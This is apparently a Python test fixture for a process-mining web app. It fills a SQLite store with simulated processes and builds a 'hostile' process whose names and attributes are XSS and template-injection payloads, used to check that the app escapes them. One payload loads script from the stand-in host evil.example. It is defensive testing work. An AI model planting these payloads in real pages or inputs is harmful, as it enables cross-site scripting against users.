"""A store filled for the web tests: the three simulated processes with the demo's anomalies,
a process whose names and attributes are hostile HTML and script, and alerts evaluated on them;
settings with a writing token, a read-only token, and (optionally) tokens needed to read."""

from __future__ import annotations

import json
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import polars as pl

from backlight import alerting, jobs
from backlight.config import Settings, load
from backlight.demo import drift_onset
from ingest.simulate import Anomalies, Bottleneck, ReworkLoop, StuckCases, simulate
from mining.model import discover_model
from schemas.event import CaseEvent, to_time_us
from storage import SQLiteStore

WRITER_TOKEN = "writer-token-0123456789"
READER_TOKEN = "reader-token-0123456789"
HOSTILE_PROCESS = "hostile"
PAYLOADS = (
    "<script>alert('activity')</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(2)>",
    "javascript:alert(3)",
    "</title><script src=https://evil.example/x.js></script>",
    "{{7*7}} ${7*7} <b>bold</b>",
)


def hostile_events(cases: int = 12) -> list[CaseEvent]:
    """Cases of a process whose activities, resources, teams, case ids and attribute values
    are HTML and script payloads (and one that tries to break out of embedded JSON). The last
    four cases start a month after the others, so the earlier cases left at a payload step are
    stuck: their case ids and steps reach the stuck table and the stuck alerts' keys,
    summaries and evidence."""
    t0 = to_time_us(datetime.fromisoformat("2026-03-02T09:00:00+01:00"))
    out = []
    for c in range(cases):
        case = f"case-{c}-<img src=x onerror=alert('case')>"
        later = 30 * 86400 if c >= cases - 4 else 0
        for i, activity in enumerate(PAYLOADS[: 3 + c % 4]):
            attrs = json.dumps({"note": PAYLOADS[(c + i) % len(PAYLOADS)],
                                "json": "</script><script>alert('json')</script>"})
            out.append(CaseEvent(f"h-{c}-{i}", HOSTILE_PROCESS, case, activity,
                                 t0 + (later + c * 3600 + i * 7200) * 1_000_000, "complete",
                                 PAYLOADS[i % len(PAYLOADS)], f"team<{i % 2}>", attrs))
    return out


def fill_store(path: Path, cases: int = 400) -> dict[str, datetime]:
    """The demo's three processes (with its anomalies) and the hostile one, stored at
    ``path``; returns each process's "now" (an hour after its last case arrived)."""
    onset = drift_onset(cases)
    plans: dict[str, Anomalies] = {
        "onboarding": Anomalies(
            bottleneck=Bottleneck("Risk review", onset, 5.0, segment=("region", "east")),
            rework=ReworkLoop(("Request missing documents", "Documents received"), 0.3,
                              since=onset)),
        "payments": Anomalies(),
        "claims": Anomalies(stuck=StuckCases("Assessment", 0.05)),
    }
    store = SQLiteStore(path)
    nows: dict[str, datetime] = {}
    try:
        for process, anomalies in plans.items():
            sim = simulate(process, cases, seed=7, start=jobs.SIMULATION_START,
                           anomalies=anomalies)
            store.write(sim.events)
            frame = store.events(process)
            first = frame.group_by("case_id").agg(pl.col("timestamp").min())
            nows[process] = first["timestamp"].max() + timedelta(hours=1)  # type: ignore[operator]
            if process == "claims":  # its stuck cases, idle for weeks once the others finished
                nows[process] = frame["timestamp"].max() + timedelta(hours=1)  # type: ignore[operator]
        store.write(hostile_events())
        nows[HOSTILE_PROCESS] = store.events(HOSTILE_PROCESS)["timestamp"].max()  # type: ignore[assignment]
        # The documented payments procedure: the model of its first 40 cases, which the
        # rarer paths of the later cases do not fit (so conformance has deviations to name).
        payments = store.events("payments")
        first = payments["case_id"].unique(maintain_order=True).head(40)
        model = discover_model(payments.filter(pl.col("case_id").is_in(first.implode())))
        reference_model(path).write_text(model.bpmn_xml)
    finally:
        store.close()
    return nows


def reference_model(store_path: Path) -> Path:
    """Where ``fill_store`` writes the documented payments model (BPMN)."""
    return store_path.with_name("payments-reference.bpmn")


def web_settings(store_path: Path, *, read: str = "open", **web: Any) -> Settings:
    """The embedded defaults over the store at ``store_path``, with a writer ("alice") and a
    reader ("rita") token, and payments' documented model when ``fill_store`` wrote it."""
    base = load(environ={})
    tokens = ({"name": "alice", "token": WRITER_TOKEN, "write": True},
              {"name": "rita", "token": READER_TOKEN, "write": False})
    data = base.model_dump(mode="python")
    data["store"]["url"] = f"sqlite:///{store_path}"
    data["web"] = {**data["web"], "read": read, "tokens": tokens, **web}
    if reference_model(store_path).exists():
        for proc in data["processes"]:
            if proc["name"] == "payments":
                proc["reference_model"] = str(reference_model(store_path))
    for t in data["web"]["tokens"]:
        if hasattr(t.get("token"), "get_secret_value"):
            t["token"] = t["token"].get_secret_value()
    return Settings.model_validate(data)


def evaluate_alerts(settings: Settings, nows: dict[str, datetime]) -> int:
    """Evaluate the rules on each process as of its own "now" (no chat: no channels)."""
    fired = 0
    for process, now in sorted(nows.items()):
        report = alerting.evaluate(settings, now, processes=[process])
        fired += len(report.alerts)
    return fired


def review_day(settings: Settings, process: str, at: datetime) -> str:
    """The date a review made at ``at`` counts for: its day in the process calendar's time
    zone (a review at 23:30 UTC is the next day in Amsterdam)."""
    proc = next(p for p in settings.processes if p.name == process)
    calendar = (proc.calendar or settings.alerts.calendar).calendar()
    return calendar.business_day_of(at).isoformat()


def server_ms(response: httpx.Response) -> float:
    """The app's own time for a request, from its Server-Timing header."""
    timing = response.headers["server-timing"]
    assert timing.startswith("app;dur="), timing
    return float(timing.split("dur=")[1])
